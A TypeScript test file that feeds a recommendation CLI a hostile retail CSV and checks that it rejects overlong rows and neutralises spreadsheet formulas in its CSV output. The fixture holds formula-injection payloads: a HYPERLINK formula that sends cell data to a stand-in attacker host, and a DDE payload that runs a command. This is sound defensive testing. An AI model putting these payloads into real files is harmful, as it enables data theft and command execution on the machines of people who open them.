import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';

const ROOT = path.join(__dirname, '..', '..', '..', '..');

// The CLI as users run it (`npm run reco -- ...`), against a temporary SQLite database.
function reco(args: string[], dataDir: string) {
  const result = spawnSync(process.execPath, [require.resolve('tsx/cli'), '--conditions=@reco/source', 'apps/cli/src/main.ts', ...args], {
    cwd: ROOT,
    encoding: 'utf8',
    env: { ...process.env, DATA_DIR: dataDir, DATABASE_URL: '', OBJECT_STORE: 'local', OBJECT_STORE_DIR: '', LOG_LEVEL: 'warn' },
    timeout: 240_000,
    maxBuffer: 64 * 1024 * 1024,
  });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
const CALC = "=cmd|' /C calc'!A0";
const FORMULAS = [HYPERLINK, CALC, '@SUM(1+1)', '+44 20 7946 0000', '-2+3'];
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const line = (invoice: number, code: string, description: string, customer: string) =>
  `${invoice},${code},${quoted(description)},2,2011-05-0${(invoice % 9) + 1} 10:00:00,2.50,${customer},United Kingdom`;

describe('reco import / recommend with a hostile Online Retail file', () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(path.join(tmpdir(), 'reco-cli-hostile-'))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('lists the overlong rows with their line, and writes formula text into CSV only as text', () => {
    const file = path.join(dir, 'hostile.csv');
    const rows = [
      'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country',
      line(600000, '22000', 'x'.repeat(20 * 1024 * 1024), '17850'),
      line(600001, 'S'.repeat(129), 'TOO LONG A CODE', '17850'),
      // Each formula is a product bought by three customers: all of them are in the popular list.
      ...FORMULAS.flatMap((text, i) => ['17850', '13047', '12583'].map((customer, j) => line(600010 + i * 3 + j, `2201${i}`, text, customer))),
    ];
    writeFileSync(file, rows.join('\n'));
    const imported = reco(['import', '--csv', file, '--no-refresh'], dir);
    expect(imported.code).toBe(0);
    expect(imported.stdout).toMatch(/^rejected: 2 \(description longer than 500 characters 1, stock code longer than 128 characters 1\)$/m);
    expect(imported.stdout).toMatch(/^ {2}line 2: description longer than 500 characters$/m);
    expect(imported.stdout).toMatch(/^ {2}line 3: stock code longer than 128 characters$/m);
    expect(imported.stdout).toMatch(/^new: 15 orders, 15 order lines, 3 customers, 5 products$/m);

    const users = path.join(dir, 'users.txt');
    writeFileSync(users, '17850\n=1+1\n');
    const recommended = reco(['recommend', '--users', users, '--k', '10', '--format', 'csv'], dir);
    expect(recommended).toMatchObject({ code: 0, stderr: '' });
    const [header, ...cells] = parse(recommended.stdout) as string[][];
    expect(header).toEqual(['user_id', 'rank', 'product_id', 'score', 'reason', 'description']);
    expect(cells).toHaveLength(10);
    expect(new Set(cells.map((row) => row[0]))).toEqual(new Set(['17850', "'=1+1"]));
    expect(cells.filter((row) => row[0] === '17850').map((row) => row[5]).sort()).toEqual(FORMULAS.map((text) => `'${text}`).sort());
    // Nothing a spreadsheet would run: no text cell starts with a formula character.
    for (const row of cells) for (const cell of [row[0], row[2], row[4], row[5]]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }, 300_000);
});
